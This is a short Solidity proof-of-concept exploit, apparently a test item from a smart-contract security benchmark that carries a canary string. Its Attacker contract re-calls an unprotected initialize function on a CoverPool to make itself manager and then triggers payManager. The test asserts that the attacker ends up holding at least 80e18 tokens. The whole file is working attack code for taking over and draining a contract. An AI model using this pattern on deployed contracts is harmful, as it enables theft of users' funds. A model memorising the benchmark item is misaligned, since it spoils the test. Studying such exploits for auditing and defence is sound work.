// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    function run(CoverPool _pool) external {
        _pool.accrue();
        try _pool.initialize("VALE", address(this)) {} catch {}
        _pool.payManager();
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(vale);
    }

    function test_Exploit() public {
        exploit();
        require(crown.balanceOf(address(other)) >= 80e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(vale);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
